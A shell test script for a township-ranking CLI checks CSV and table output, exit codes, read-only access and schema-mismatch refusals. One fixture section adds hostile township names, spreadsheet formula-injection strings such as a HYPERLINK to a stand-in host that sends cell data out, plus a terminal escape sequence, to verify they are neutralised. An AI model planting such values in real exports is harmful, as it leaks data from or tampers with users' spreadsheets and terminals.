#!/bin/sh
# bizenv rank: CSV and table output over fixture rows, exit statuses.
. "$(dirname "$0")/../lib/tap.sh"

db=$(scratch_db) || { echo "1..0 # SKIP no database"; exit 0; }
home=$(new_home)
dir=$(cd "$(dirname "$0")" && pwd)
rank() { "$BIZENV" --home "$home" rank "$@" --db "dbname=$db"; }

"$BIZENV" --home "$home" migrate --db "dbname=$db" >"$T/migrate.log" 2>&1
ok $? "migrations apply"
psql -X -q -v ON_ERROR_STOP=1 -d "$db" >"$T/fixture.log" 2>&1 <<EOF_SQL
\i $dir/lib/fixture.psql
SELECT test.town('539901101', '示例乡'), test.town('539901102', '东山镇'),
       test.town('539901103', '西河乡,"新"'), test.town('539901104', '南坪镇');
SELECT test.seed_example();
-- 东山镇: 9/10, 1 of 2 problems done, 1 of 2 windows walked
SELECT test.sub('539901102', '2026-10', 10, 9, ARRAY['market', 'agri'], ARRAY['L01'],
                ARRAY['L01@W01'], ARRAY['P1 2026-10-02', 'P2 2026-10-03 2026-10-09']);
-- 南坪镇: nothing handled (service NULL), no problems (completion NULL), all walked
SELECT test.sub('539901104', '2026-10', 0, 0, ARRAY['market'], ARRAY['L01'], ARRAY['L01@W01']);
-- a later revision for 示例乡 received after the as-of date must not count
SELECT test.sub('539901101', '2026-10', 31, 1, ARRAY['market'], ARRAY['L01'], '{}', '{}', 2,
                '2026-12-15 10:00+08');
EOF_SQL
ok $? "fixture rows load"
[ -s "$T/fixture.log" ] && grep -i error "$T/fixture.log" | sed 's/^/# /'

out=$(rank 2026-10 --as-of 2026-11-30 --format csv)
ok $? "rank --format csv exits 0"
expected='rank,code,name,service_rate,completion_rate,walk_coverage,composite,service_rank,completion_rank,coverage_rank,status,missing_months
1,539901104,南坪镇,,,100.00,100.00,,,1,已报送,
2,539901101,示例乡,96.77,100.00,83.33,93.37,1,1,2,已报送,
3,539901102,东山镇,90.00,50.00,50.00,63.33,2,2,3,已报送,
,539901103,"西河乡,""新""",,,,,,,,未报送,2026-10'
is "$out" "$expected" "csv lines: header, ranks, NULL figures empty, RFC 4180 quoting, 未报送 last"

out=$(rank 2026-10 --as-of 2026-12-31 --format csv | grep '^.*,539901101,')
is "$out" "3,539901101,示例乡,3.23,,0.00,1.61,2,,3,已报送," "a later revision counts once received"

out=$(rank 2026-10 --as-of 2026-11-30)
ok $? "rank (table) exits 0"
like "$out" '^排名 +代码 +乡镇 +服务率 +整改完成率 +走流程覆盖率 +综合得分 +报送状态 +缺报月份$' "table has the Chinese headers"
like "$out" '^ +2  539901101  示例乡 +96\.8% +100\.0% +83\.3% +93\.37  已报送' "table shows one-decimal percentages and the composite"
# every row's status column starts at the same display column: the 综合得分 field ends there
w1=$(printf '%s\n' "$out" | grep '南坪镇' | sed 's/已报送.*//' | LC_ALL=C.UTF-8 wc -L)
w2=$(printf '%s\n' "$out" | grep '西河乡' | sed 's/未报送.*//' | LC_ALL=C.UTF-8 wc -L)
is "$w1" "$w2" "columns align by display width (CJK counted as two columns)"

rank 2026-13 >"$T/o" 2>"$T/e"
is $? 64 "a bad period exits 64"
like "$(cat "$T/e")" '无效的排名期间' "a bad period is explained"
rank 2026-10 --as-of 2026-02-30 >/dev/null 2>&1
is $? 64 "a bad as-of date exits 64"
rank 2026-10 --format xml >/dev/null 2>&1
is $? 64 "an unknown format exits 64"
"$BIZENV" --home "$home" rank >/dev/null 2>&1
is $? 64 "a missing period exits 64"
"$BIZENV" --home "$home" rank 2026-10 --db "host=$T/nowhere dbname=$db" >/dev/null 2>&1
is $? 69 "an unreachable database exits 69"

# Names a spreadsheet would run as formulas get the export CSV's guard; a
# name with a newline or an escape stays on its row in the table.
psql -X -q -v ON_ERROR_STOP=1 -d "$db" >"$T/hostile.log" 2>&1 <<'EOF_SQL'
SELECT test.town('539901105', '=HYPERLINK("http://x.example/?"&A1,"点击")'),
       test.town('539901106', '@SUM(1+1)'), test.town('539901107', '+1-1'),
       test.town('539901108', E'换行\n第二行\u001b[2J');
EOF_SQL
ok $? "townships with hostile names added"
out=$(rank 2026-10 --as-of 2026-11-30 --format csv)
is "$(printf '%s\n' "$out" | grep ',53990110[5-7],')" \
',539901105,"'"'"'=HYPERLINK(""http://x.example/?""&A1,""点击"")",,,,,,,,未报送,2026-10
,539901106,'"'"'@SUM(1+1),,,,,,,,未报送,2026-10
,539901107,'"'"'+1-1,,,,,,,,未报送,2026-10' \
    "a name starting with =, @ or + is written with a leading ' (quoted when it holds a comma or quote)"
out=$(rank 2026-10 --as-of 2026-11-30)
like "$out" '539901108  换行\\n第二行\\x1b\[2J +- ' "the table shows a newline and an escape in a name escaped"
unlike "$out" '^第二行' "no row is split"

# rank only reads: an analyst's role (a member of bizenv_analyst, nothing
# else) can use it, and nothing is migrated
role="analyst_$db"
psql -X -q -d "$db" -c "CREATE ROLE $role LOGIN; GRANT bizenv_analyst TO $role" >/dev/null 2>&1
ok $? "a read-only analyst role"
migs=$(psql -X -At -d "$db" -c "select count(*) || ' ' || max(version) from meta.migration")
out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" rank 2026-10 --as-of 2026-11-30 --format csv 2>&1); rc=$?
is "$rc" 0 "rank --db as the analyst role exits 0"
like "$out" '^1,539901104,南坪镇,,,100.00,100.00,,,1,已报送,$' "and prints the ranking"
out=$("$BIZENV" --home "$(new_home)" --db "dbname=$db user=$role" rank 2026-10 --as-of 2026-11-30 2>&1); rc=$?
is "$rc" 0 "from a home of its own too (an analyst's PC)"
# bizenv runs reads report.run, which the analyst may read (meta.run it may not)
psql -X -q -d "$db" -c "SELECT meta.run_end(meta.run_begin('nightly', '2026-11-30', 'secret-host', 4242, 'bizenv t'), 'failed', 3, 2, 1, 0, 5, '{539901102}', 'E_TIMEOUT', '操作超时', '/srv/runs/x.txt')" >/dev/null
out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" runs 2>&1); rc=$?
is "$rc" 0 "bizenv runs as the analyst role exits 0"
like "$out" '^[0-9]+ +nightly +20[0-9-]+ [0-9:]+ +[0-9:]+ +失败 +3 +2 +1 +0 +5  539901102  E_TIMEOUT 操作超时$' \
    "and lists the run: counts, townships not reported, the error"
unlike "$out" "secret-host|4242|/srv/runs" "without the host, process id or summary path"
last=$(psql -X -At -d "$db" -c "select version || ',' || quote_literal(name) || ',' || quote_literal(sha256) from meta.migration order by version desc limit 1")
psql -X -q -d "$db" -c "DELETE FROM meta.migration WHERE version = ${last%%,*}" >/dev/null
out=$("$BIZENV" --home "$home" --db "dbname=$db" rank 2026-10 2>&1); rc=$?
is "$rc" 70 "a database behind the binary: rank refuses (70), even as its owner"
like "$out" "E_DB_SCHEMA.*早于本程序.*缺少升级 0*${last%%,*}_.*bizenv migrate" "with E_DB_SCHEMA, the missing migration and what to do"
is "$(psql -X -At -d "$db" -c "select count(*) from meta.migration where version = ${last%%,*}")" 0 "and migrates nothing"
out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" runs 2>&1); rc=$?
is "$rc" 70 "bizenv runs only reads too: it refuses the same way"
psql -X -q -d "$db" -c "INSERT INTO meta.migration (version, name, sha256) VALUES ($last)" >/dev/null
is "$(psql -X -At -d "$db" -c "select count(*) || ' ' || max(version) from meta.migration")" "$migs" "(the record put back)"
psql -X -q -d "$db" -c "INSERT INTO meta.migration (version, name, sha256) VALUES (999, 'future', 'x')" >/dev/null
out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" rank 2026-10 2>&1); rc=$?
is "$rc" 70 "a database ahead of the binary: rank refuses (70)"
like "$out" "E_DB_SCHEMA.*999.*更新版本" "with E_DB_SCHEMA"
psql -X -q -d "$db" -c "DELETE FROM meta.migration WHERE version = 999" >/dev/null

# The SQL definitions count too (meta.definition_file, load/migrate.c): a
# database whose functions and views were applied from other files than
# this binary's is refused, whichever side is newer, and left as it was.
defs="SELECT string_agg(path || ' ' || sha256 || ' ' || applied_at, ',' ORDER BY path) FROM meta.definition_file"
oids="SELECT string_agg(p.oid::text, ',' ORDER BY p.oid) FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'report'"
defs_before=$(psql -X -At -d "$db" -c "$defs"); oids_before=$(psql -X -At -d "$db" -c "$oids")
out=$("$BIZENV" --home "$home" --db "dbname=$db" rank 2026-10 --as-of 2026-11-30 --format csv 2>&1); rc=$?
is "$rc" 0 "an up-to-date database: rank reads it, as its owner"
is "$(psql -X -At -d "$db" -c "$defs"):$(psql -X -At -d "$db" -c "$oids")" "$defs_before:$oids_before" \
    "and re-creates nothing (the definition records and the functions are the same)"
psql -X -q -d "$db" -c "UPDATE meta.definition_file SET sha256 = repeat('0', 64) WHERE path = 'sql/report/figures.sql'" >/dev/null
changed=$(psql -X -At -d "$db" -c "$defs")
out=$("$BIZENV" --home "$home" --db "dbname=$db" rank 2026-10 2>&1); rc=$?
is "$rc" 70 "a definition file applied with other content: rank refuses (70), even as its owner"
like "$out" "E_DB_SCHEMA.*函数与视图不是本程序的版本.*sql/report/figures.sql 的内容不同.*bizenv migrate" \
    "with E_DB_SCHEMA, the file and what to do"
is "$(psql -X -At -d "$db" -c "$defs"):$(psql -X -At -d "$db" -c "$oids")" "$changed:$oids_before" \
    "and re-applies nothing"
out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" runs 2>&1); rc=$?
like "$rc:$out" "^70:.*E_DB_SCHEMA" "bizenv runs as the analyst refuses it the same way"
psql -X -q -d "$db" -c "DELETE FROM meta.definition_file WHERE path = 'sql/report/figures.sql'" >/dev/null
out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" rank 2026-10 2>&1); rc=$?
like "$rc:$out" "^70:.*E_DB_SCHEMA.*sql/report/figures.sql 未执行" "a definition file not recorded: refused"
psql -X -q -d "$db" -c "INSERT INTO meta.definition_file (path, sha256) VALUES ('sql/report/later.sql', repeat('0', 64))" >/dev/null
out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" rank 2026-10 2>&1); rc=$?
like "$rc:$out" "^70:.*E_DB_SCHEMA.*sql/report/later.sql 不为本程序所知" "a definition file this binary does not have: refused"
"$BIZENV" --home "$home" --db "dbname=$db" migrate >"$T/remigrate.log" 2>&1
like "$?:$(cat "$T/remigrate.log")" "^0:已重建数据库函数与视图" "bizenv migrate re-applies the definitions"
out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" rank 2026-10 --as-of 2026-11-30 --format csv 2>&1); rc=$?
like "$rc:$(printf '%s\n' "$out" | grep 539901104)" '^0:1,539901104,南坪镇,' "after which the analyst reads the ranking again"

dropdb "$db" >/dev/null 2>&1
psql -X -q -d postgres -c "DROP ROLE IF EXISTS $role" >/dev/null 2>&1
done_testing
